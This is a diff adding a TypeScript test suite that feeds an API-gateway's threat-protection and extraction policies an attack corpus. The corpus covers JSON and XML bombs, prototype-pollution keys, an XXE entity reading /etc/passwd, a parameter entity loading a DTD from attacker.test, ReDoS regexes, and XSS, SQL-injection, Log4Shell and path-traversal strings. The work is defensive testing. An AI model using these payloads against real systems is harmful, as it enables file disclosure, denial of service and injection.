@@ -1,0 +1,175 @@
+// Hostile inputs against the policies (issue 4's attack corpus): each is rejected or passed as the
+// policy is configured, and none crashes, recurses without bound or stalls. No timing assertions
+// (DESIGN 10): the inputs are sized so that a super-linear implementation would not finish.
+import { describe, expect, it } from 'vitest';
+import { PolicyFault } from '../flow/faults.ts';
+import { makePolicyContext, type PolicyContextOptions } from '../flow/testing.ts';
+import type { PolicyStep } from '../flow/types.ts';
+import { policyRegistry } from './registry.ts';
+
+const meta = { namespace: 'shop', name: 'attack' };
+
+function step(type: string, config: unknown): PolicyStep {
+  const implementation = policyRegistry.get(type);
+  if (!implementation) throw new Error(`no ${type}`);
+  return implementation.create(config as never, meta);
+}
+
+/** "pass", or the error code of the PolicyFault; anything else thrown fails the test. */
+function outcome(s: PolicyStep, opts: PolicyContextOptions): string {
+  try {
+    const result = s(makePolicyContext(opts));
+    return result && 'respond' in result ? `respond ${result.respond.status}` : 'pass';
+  } catch (error) {
+    if (error instanceof PolicyFault) return error.errorCode;
+    throw error;
+  }
+}
+
+const json = (body: string): PolicyContextOptions => ({ method: 'POST', body, contentType: 'application/json' });
+const xml = (body: string): PolicyContextOptions => ({ method: 'POST', body, contentType: 'application/xml' });
+
+describe('attack corpus: JSON', () => {
+  const guard = step('JSONThreatProtection', { containerDepth: 20, arrayElementCount: 1000, objectEntryCount: 100, objectEntryNameLength: 64, stringValueLength: 4096 });
+  const unlimited = step('JSONThreatProtection', {});
+
+  it('rejects a depth bomb at the limit, and scans one without limits iteratively', () => {
+    expect(outcome(guard, json('['.repeat(1_000_000)))).toBe('threat.json.ContainerDepthExceeded');
+    expect(outcome(unlimited, json('['.repeat(200_000)))).toBe('threat.json.ExecutionFailed');
+    expect(outcome(unlimited, json(`${'['.repeat(200_000)}${']'.repeat(200_000)}`))).toBe('pass');
+  });
+
+  it('rejects width bombs', () => {
+    expect(outcome(guard, json(`[${'0,'.repeat(1_000_000)}0]`))).toBe('threat.json.ArrayElementCountExceeded');
+    expect(outcome(guard, json(`{${Array.from({ length: 200_000 }, (_, i) => `"k${i}":0`).join(',')}}`))).toBe('threat.json.ObjectEntryCountExceeded');
+    expect(outcome(guard, json(`["${'x'.repeat(5_000_000)}"]`))).toBe('threat.json.StringValueLengthExceeded');
+  });
+
+  it('never lets __proto__ or constructor keys poison prototypes', () => {
+    const poison = '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}';
+    expect(outcome(guard, json(poison))).toBe('pass'); // within limits: the scan builds nothing
+    const extract = step('ExtractVariables', { jsonPayload: [{ name: 'p', jsonPath: '$.__proto__.polluted' }] });
+    expect(outcome(extract, json(poison))).toBe('steps.extractvariables.JsonPathParsingFailure');
+    const regex = step('RegularExpressionProtection', { jsonPayload: [{ expression: '$..polluted', patterns: ['yes'] }] });
+    expect(outcome(regex, json(poison))).toBe('steps.regexprotection.ExecutionFailed');
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+  });
+});
+
+describe('attack corpus: XML', () => {
+  const billionLaughs = `<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n ')}
+]>
+<lolz>&lol9;</lolz>`;
+  const xxe = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>';
+  const parameterEntity = '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.test/x.dtd"> %remote;]><d/>';
+  const guard = step('XMLThreatProtection', {});
+
+  it.each([['billion laughs', billionLaughs], ['external entity (XXE)', xxe], ['parameter entity', parameterEntity]])('rejects %s without expanding anything', (_name, body) => {
+    expect(outcome(guard, xml(body))).toBe('threat.xml.DTDNotAllowed');
+    const extract = step('ExtractVariables', { xmlPayload: { variables: [{ name: 'v', xPath: 'string(/*)' }] } });
+    expect(outcome(extract, xml(body))).toBe('steps.extractvariables.ExecutionFailed');
+    const regex = step('RegularExpressionProtection', { xmlPayload: { xPaths: [{ expression: '/*', patterns: ['root:'] }] } });
+    expect(outcome(regex, xml(body))).toBe('steps.regexprotection.ExecutionFailed');
+  });
+
+  it('bounds depth: the limit rejects it, and XPath never sees a deep document', () => {
+    const deep = `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`;
+    expect(outcome(step('XMLThreatProtection', { structureLimits: { nodeDepth: 50 } }), xml(deep))).toBe('threat.xml.NodeDepthExceeded');
+    const extract = step('ExtractVariables', { xmlPayload: { variables: [{ name: 'v', xPath: 'count(//a)' }] } });
+    expect(outcome(extract, xml(deep))).toBe('steps.extractvariables.ExecutionFailed');
+  });
+
+  it('rejects a wide element and a huge attribute at their limits', () => {
+    const wide = `<a>${'<b/>'.repeat(200_000)}</a>`;
+    expect(outcome(step('XMLThreatProtection', { structureLimits: { childCount: 100 } }), xml(wide))).toBe('threat.xml.ChildCountExceeded');
+    expect(outcome(step('XMLThreatProtection', { valueLimits: { attribute: 1000 } }), xml(`<a b="${'x'.repeat(2_000_000)}"/>`))).toBe('threat.xml.AttributeValueLengthExceeded');
+  });
+});
+
+describe('attack corpus: catastrophic backtracking', () => {
+  const evil = `${'a'.repeat(100_000)}!`;
+
+  it.each([
+    ['^(a+)+$', 'a'.repeat(100_000)],
+    ['^(a|a)*$', 'a'.repeat(100_000)],
+    ['^(a|aa)+$', 'a'.repeat(100_000)],
+    ['^(.*a){20}$', 'a'.repeat(100_000)],
+    ['^(([a-z])+.)+[A-Z]([a-z])+$', `${'a'.repeat(100_000)}Ab`],
+  ])('matches %s against a long input in linear time', (pattern, matching) => {
+    const regex = step('RegularExpressionProtection', { headers: [{ name: 'x-input', patterns: [pattern] }], queryParams: [{ name: 'q', patterns: [pattern] }] });
+    expect(outcome(regex, { headers: { 'x-input': evil }, query: `q=${evil}` })).toBe('pass');
+    expect(outcome(regex, { headers: { 'x-input': matching } })).toBe('steps.regexprotection.ThreatDetected');
+  });
+
+  it('extracts with {var} patterns from a long, nearly matching value', () => {
+    const extract = step('ExtractVariables', { headers: [{ name: 'x-input', patterns: ['{a}-{b}-{c}-{d}-{e}!'] }] });
+    expect(outcome(extract, { headers: { 'x-input': '-'.repeat(50_000) } })).toBe('pass');
+  });
+});
+
+// A compact sample in the spirit of the big-list-of-naughty-strings.
+const naughtyStrings = [
+  '', ' ', 'undefined', 'null', 'NaN', '0', '-1', '1e309', '__proto__', 'constructor', 'hasOwnProperty',
+  '\u0000', 'a\u0000b', '\u0007\u001b[31mred', '\t\r\n', '\uFEFFbom', '\u200B', '\u202Eevil\u202C', 'مرحبا', 'שָׁלוֹם',
+  '田中さんにあげて下さい', '👾 🙇 💁 🙅', '👨‍👩‍👧‍👦', '\uD800', '\uDFFF', 'Ω≈ç√∫', 'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳',
+  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' OR 1=1 --", '${jndi:ldap://x/a}', '{{7*7}}', '%00', '%',
+  '../../../../etc/passwd', '\\\\server\\share', 'Basic ', 'Basic Og==', '::', '1.2.3.4.5', '::ffff:', '[::1]', '999.1.1.1',
+];
+
+/** Percent-encodes; a lone surrogate (which encodeURIComponent refuses) becomes invalid UTF-8 escapes. */
+function percentEncode(value: string): string {
+  try {
+    return encodeURIComponent(value);
+  } catch {
+    return '%ED%A0%80';
+  }
+}
+
+describe('attack corpus: naughty strings', () => {
+  const policies: Array<[string, PolicyStep]> = [
+    ['RegularExpressionProtection', step('RegularExpressionProtection', {
+      uriPath: ['(?i)etc/passwd'], headers: [{ name: 'x-n', patterns: ['(?i)<script'] }], queryParams: [{ name: 'q', patterns: ["(?i)'\\s*or\\s"] }],
+      variables: [{ name: 'request.header.x-n', patterns: ['jndi'] }],
+    })],
+    ['ExtractVariables', step('ExtractVariables', { headers: [{ name: 'x-n', patterns: ['{a}:{b}'] }], queryParams: [{ name: 'q', patterns: ['{q}'] }], ignoreUnresolvedVariables: true })],
+    ['AccessControl', step('AccessControl', { validateBasedOn: 'XForwardedForAllIPs', rules: [{ action: 'Allow', sourceAddresses: ['0.0.0.0/0', '::/0'] }] })],
+    ['BasicAuthentication', step('BasicAuthentication', { operation: 'Decode', user: { ref: 'u' }, password: { ref: 'p' }, source: 'request.header.x-n' })],
+    ['CORS', step('CORS', { allowOrigins: ['https://*.example.com'] })],
+    ['AssignMessage', step('AssignMessage', { set: { headers: { 'x-echo': '{request.header.x-n}' }, queryParams: { q: '{request.header.x-n}' } } })],
+    ['VerifyAPIKey', step('VerifyAPIKey', { apiKey: { ref: 'request.header.x-n' } })],
+  ];
+
+  it.each(policies)('%s handles every naughty header, query and forwarded-for value without crashing', (_type, s) => {
+    for (const value of naughtyStrings) {
+      const opts: PolicyContextOptions = {
+        method: 'OPTIONS',
+        path: `/p/${percentEncode(value)}`,
+        query: `q=${percentEncode(value)}`,
+        headers: { 'x-n': value, 'x-forwarded-for': value, origin: value, 'access-control-request-method': 'GET', 'x-api-key': value },
+      };
+      expect(outcome(s, opts)).toMatch(/^(pass|respond \d+|[\w.-]+)$/);
+    }
+  });
+
+  it('rejects the ones it is configured for', () => {
+    const [, regex] = policies[0];
+    expect(outcome(regex, { headers: { 'x-n': '<script>alert(1)</script>' } })).toBe('steps.regexprotection.ThreatDetected');
+    expect(outcome(regex, { path: '/p/..%2F..%2Fetc%2Fpasswd' })).toBe('steps.regexprotection.ThreatDetected');
+    expect(outcome(regex, { query: `q=${encodeURIComponent("' OR 1=1 --")}` })).toBe('steps.regexprotection.ThreatDetected');
+    const [, xff] = policies[2];
+    expect(outcome(xff, { headers: { 'x-forwarded-for': '1.2.3.4.5' } })).toBe('accesscontrol.IPDeniedAccess');
+  });
+
+  it('scans naughty strings inside JSON and XML bodies', () => {
+    const jsonGuard = step('JSONThreatProtection', { stringValueLength: 1000, objectEntryNameLength: 1000 });
+    const xmlGuard = step('XMLThreatProtection', { valueLimits: { text: 1000 } });
+    for (const value of naughtyStrings) {
+      expect(outcome(jsonGuard, json(JSON.stringify({ [value]: value })))).toBe('pass');
+      const escaped = value.replace(/&/g, '&amp;').replace(/</g, '&lt;');
+      expect(outcome(xmlGuard, xml(`<a>${escaped}</a>`))).toMatch(/^(pass|threat\.xml\.ExecutionFailed)$/);
+    }
+  });
+});
